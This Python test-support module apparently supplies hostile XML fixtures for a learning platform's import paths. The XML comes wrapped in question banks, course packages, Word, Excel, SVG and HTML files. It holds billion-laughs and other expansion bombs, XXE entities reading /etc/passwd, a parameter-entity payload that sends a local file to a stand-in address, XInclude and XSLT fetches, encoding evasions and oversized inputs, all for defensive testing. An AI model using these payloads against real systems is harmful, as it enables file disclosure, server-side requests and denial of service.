"""XML made to harm, with any root element, and the files in which XML comes to the academy.

    BODIES["billion laughs"]("quiz", "http://127.0.0.1:9/x")      # bytes
    CARRIERS["courseware"](…)                                      # a package with them as its manifest

HARMLESS are those that ask for nothing once the reader fetches nothing: they may be taken.
"""

from collections.abc import Callable, Mapping

from lms.core import xml
from tests.support.banks import QTI, asked, item, moodle
from tests.support.hostile_archives import TYPES, plain_zip
from tests.support.make_courseware import a_zip

Body = Callable[[str, str], bytes]
DEEP = 100_000
XI = xml.INCLUSION
_LEVELS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
LAUGHS = f'<!ENTITY l0 "ha">{_LEVELS}'


def declared(subset: str, inside: str = "&x;", *, head: str = "") -> Body:
    """A document type with this internal subset, and an element that uses what it declares."""
    return lambda root, address: (
        f"{head}<!DOCTYPE {root} [{subset.replace('@', address)}]><{root}>{inside}</{root}>".encode()
    )


def within(inside: str, *, attributes: str = "", before: str = "", after: str = "") -> Body:
    return lambda root, address: f"{before}<{root} {attributes}>{inside}</{root}>{after}".replace("@", address).encode()


def in_encoding(name: str, codec: str | None = None) -> Body:
    """A document type that hides in an encoding. codec: the real one, if that is another."""
    return lambda root, address: (
        f'<?xml version="1.0" encoding="{name}"?><!DOCTYPE {root} [<!ENTITY x SYSTEM "{address}">]><{root}>&x;</{root}>'
    ).encode(codec or name)


BODIES: dict[str, Body] = {
    # entities that grow
    "billion laughs": declared(LAUGHS, "&l9;"),
    "billion laughs in an attribute": lambda root, _: f'<!DOCTYPE {root} [{LAUGHS}]><{root} a="&l9;"/>'.encode(),
    "laughs of parameters": declared('<!ENTITY % a "ha"><!ENTITY % b "&#37;a;&#37;a;"><!ENTITY x "%b;">'),
    "quadratic": declared(f'<!ENTITY x "{"a" * 50_000}">', "&x;" * 20_000),
    "an entity of itself": declared('<!ENTITY x "&y;"><!ENTITY y "&x;">'),
    "an attribute that is there by itself": declared(f'<!ATTLIST a b CDATA "{"c" * 60_000}">', "<a/>" * 20_000),
    # entities that fetch
    "a file": declared('<!ENTITY x SYSTEM "file:///etc/passwd">'),
    "a device": declared('<!ENTITY x SYSTEM "file:///dev/zero">'),
    "a page": declared('<!ENTITY x SYSTEM "@">'),
    "a public name": declared('<!ENTITY x PUBLIC "-//W3C//DTD XHTML 1.0//EN" "@">'),
    "FTP": declared('<!ENTITY x SYSTEM "ftp://127.0.0.1:9/x">'),
    "PHP": declared('<!ENTITY x SYSTEM "php://filter/convert.base64-encode/resource=/etc/passwd">'),
    "a share of Windows": declared('<!ENTITY x SYSTEM "\\\\127.0.0.1\\x">'),
    "an entity of parameters": declared('<!ENTITY % x SYSTEM "@"> %x;', ""),
    "a file sent out by parameters": declared(
        '<!ENTITY % f SYSTEM "file:///etc/hostname"><!ENTITY % d SYSTEM "@"> %d; %f;', "&send;"
    ),
    "a drawing that is not parsed": declared('<!NOTATION n SYSTEM "@"><!ENTITY x SYSTEM "@" NDATA n>', ""),
    "a document type elsewhere": lambda root, address: f'<!DOCTYPE {root} SYSTEM "{address}"><{root}/>'.encode(),
    "a document type of this machine": lambda root, _: (
        f'<!DOCTYPE {root} SYSTEM "file:///etc/passwd"><{root}/>'.encode()
    ),
    "a document type and no more": lambda root, _: f"<!DOCTYPE {root}><{root}/>".encode(),
    "in small letters": lambda root, _: f"<!doctype {root}><{root}/>".encode(),
    "behind a comment": declared('<!ENTITY x "y">', head="<?a b?><!-- <a> -->\n<?c?> "),
    "behind a thousand comments": declared('<!ENTITY x "y">', head="<!-- c -->" * 1_000),
    "behind a mark": declared('<!ENTITY x "y">', head="\ufeff"),
    # what else fetches
    "an inclusion": within(f'<i:include xmlns:i="{XI}" href="file:///etc/passwd" parse="text"/>'),
    "an inclusion of a page": within('<i:include href="@"/>', attributes=f'xmlns:i="{XI}"'),
    "an inclusion by its own name": lambda _, address: f'<include xmlns="{XI}" href="{address}"/>'.encode(),
    "an inclusion with a fallback": within(
        f'<i:include xmlns:i="{XI}" href="@"><i:fallback><i:include href="file:///etc/passwd"/></i:fallback></i:include>'
    ),
    "a stylesheet": within("", before='<?xml-stylesheet type="text/xsl" href="@"?>'),
    "a stylesheet that runs": within(
        '<xsl:value-of select="document(\'@\')" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"/>'
    ),
    "a schema": within("", attributes='xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="a @"'),
    "a schema without a namespace": within(
        "", attributes='xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:noNamespaceSchemaLocation="@"'
    ),
    "a base": within('<a href="x"/>', attributes='xml:base="@"'),
    # size and depth
    "depth": lambda root, _: f"<{root}>{'<a>' * DEEP}{'</a>' * DEEP}</{root}>".encode(),
    "depth without an end": lambda root, _: f"<{root}>".encode() * DEEP,
    "a depth of 300": lambda root, _: f"<{root}>{'<a>' * 300}{'</a>' * 300}</{root}>".encode(),
    "too many elements": within("<a/>" * (xml.MOST_TAGS + 1)),
    "a hundred thousand attributes": within("", attributes=" ".join(f'a{n}="{n}"' for n in range(100_000))),
    "attributes in many elements": within(("<a " + " ".join(f"a{n}=''" for n in range(500)) + "/>") * 300),
    "a text of eleven megabytes": within("x" * 11_000_000),
    "a text of nineteen megabytes in pieces": within(("<a/>" + "x" * 1_900_000) * 10),
    "an attribute of eleven megabytes": within("", attributes=f'a="{"x" * 11_000_000}"'),
    "a name of a megabyte": within(f"<{'n' * 1_000_000}/>"),
    "a comment of eleven megabytes": within(f"<!--{'x' * 11_000_000}-->"),
    "an instruction of eleven megabytes": within(f"<?a {'x' * 11_000_000}?>"),
    "characters by number": within("&#x41;" * 1_500_000),
    "a thousand namespaces": within("", attributes=" ".join(f'xmlns:n{n}="urn:{n}"' for n in range(20_000))),
    "namespaces in each depth": lambda root, _: (
        f"<{root}>" + "".join(f'<a xmlns:n{n}="urn:{n}">' for n in range(190)) + "</a>" * 190 + f"</{root}>"
    ).encode(),
    "the same namespace for two attributes": within(
        "<a p:x='1' q:x='2'/>", attributes='xmlns:p="urn:a" xmlns:q="urn:a"'
    ),
    # encodings
    "UTF-16": in_encoding("utf-16"),
    "UTF-16 without a mark": in_encoding("utf-16", "utf-16-le"),
    "UTF-32": in_encoding("utf-32"),
    "UTF-7": lambda root, _: f'<?xml version="1.0" encoding="utf-7"?>+ADwAIQ-DOCTYPE {root}+AD4-<{root}/>'.encode(),
    "EBCDIC": in_encoding("cp037"),
    "an encoding nobody knows": in_encoding("x-evil", "utf-8"),
    "called ASCII": in_encoding("us-ascii"),
    "UTF-8 that is none": lambda root, _: f"<{root}>".encode() + b"\xc0\xaf\xff\xfe" + f"</{root}>".encode(),
    "half a surrogate": lambda root, _: f"<{root}>".encode() + b"\xed\xa0\x80" + f"</{root}>".encode(),
    # what is no XML
    "a null": within("\x00"),
    "a control sign": within("\x0b"),
    "the sign 0 by number": within("&#0;"),
    "a sign beyond all": within("&#x110000;"),
    "an entity of HTML": within("&nbsp;"),
    "no end": lambda root, _: f"<{root}>".encode(),
    "an end too many": lambda root, _: f"<{root}/></{root}>".encode(),
    "two roots": lambda root, _: f"<{root}/><{root}/>".encode(),
    "text behind it": lambda root, _: f"<{root}/>text".encode(),
    "an attribute twice": within("", attributes='a="1" a="2"'),
    "an attribute without a mark": within("", attributes="a=1"),
    "a prefix nobody declared": within("<n:a/>"),
    "an open CDATA": within("<![CDATA["),
    "a declaration in the middle": within("<?xml version='1.0'?>"),
    "version 9": within("", before='<?xml version="9.0"?>'),
    "a declaration that never ends": lambda root, _: f"<?xml {'a' * 300_000}<{root}/>".encode(),
    "a comment with two strokes": within("<!-- -- -->"),
}
HARMLESS = frozenset(
    {
        "a stylesheet", "a stylesheet that runs", "a schema", "a schema without a namespace", "a base",
        "a hundred thousand attributes", "attributes in many elements", "a text of eleven megabytes",
        "a text of nineteen megabytes in pieces", "a name of a megabyte", "a comment of eleven megabytes",
        "an instruction of eleven megabytes", "characters by number", "a thousand namespaces", "namespaces in each depth",
        "an attribute of eleven megabytes", "version 9", "UTF-16",
    }
)  # fmt: skip
"""These may be taken: of a large thing what fits in the limits is read, and of an address nothing is asked."""


def shaped(address: str) -> Mapping[str, tuple[str, bytes]]:
    """Return whole banks whose words ask for more than themselves: name of the file, bytes."""
    picture = f'<p><img src="{address}"></p>'
    return {
        "a picture of another host": ("a.xml", moodle(asked("essay", picture, ""))),
        "a film of another host": ("a.xml", moodle(asked("essay", f'<video src="{address}"></video>', ""))),
        "an item with a picture": ("a.xml", item("", picture.replace(">", "/>", 1)).encode()),
        "an item with a script": ("a.xml", item("", "<script>alert(1)</script>").encode()),
        "an item with a template elsewhere": ("a.xml", item("", "x", template=address).encode()),
    }


CARRIERS: dict[str, tuple[str, Callable[[Body, str], bytes]]] = {
    "bank": ("a.xml", lambda body, address: body("quiz", address)),
    "bank as moodlexml": ("a.xml", lambda body, address: body("quiz", address)),
    "bank as qti": ("a.xml", lambda body, address: body("assessmentItem", address)),
    "bank by API": ("a.xml", lambda body, address: body("assessmentItem", address)),
    "package": (
        "a.zip",
        lambda body, address: a_zip({"imsmanifest.xml": body("manifest", address), "items/one.xml": QTI["one.xml"]}),
    ),
    "courseware": (
        "a.zip",
        lambda body, address: a_zip({"imsmanifest.xml": body("manifest", address), "index.html": "<p>"}),
    ),
    "document": (
        "a.docx",
        lambda body, address: plain_zip(
            **{"[Content_Types].xml": TYPES.encode(), "word/document.xml": body("document", address)}
        ),
    ),
    "people": ("a.xlsx", lambda body, address: a_book(body("worksheet", address))),
    "attachment": ("a.svg", lambda body, address: body("svg", address)),
    "pasted": ("a.html", lambda body, address: body("html", address)),
}
"""By the door that takes such a file: its name, and its bytes with this XML in it. `package`: at the door of banks."""


def a_book(page: bytes) -> bytes:
    """Return a workbook with this as its one sheet."""
    spaces = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
    kinds = "application/vnd.openxmlformats-officedocument.spreadsheetml"
    related = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    relations = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" '
    )
    return plain_zip(
        **{
            "[Content_Types].xml": TYPES.replace(
                '"/>',
                f'"><Override PartName="/xl/workbook.xml" ContentType="{kinds}.sheet.main+xml"/>'
                f'<Override PartName="/xl/worksheets/sheet1.xml" ContentType="{kinds}.worksheet+xml"/></Types>',
            ).encode(),
            "_rels/.rels": f'{relations}Type="{related}/officeDocument" Target="xl/workbook.xml"/></Relationships>'.encode(),
            "xl/workbook.xml": (
                f'<workbook {spaces} xmlns:r="{related}"><sheets><sheet name="a" sheetId="1" r:id="r1"/></sheets></workbook>'
            ).encode(),
            "xl/_rels/workbook.xml.rels": (
                f'{relations}Type="{related}/worksheet" Target="worksheets/sheet1.xml"/></Relationships>'.encode()
            ),
            "xl/worksheets/sheet1.xml": page,
        }
    )
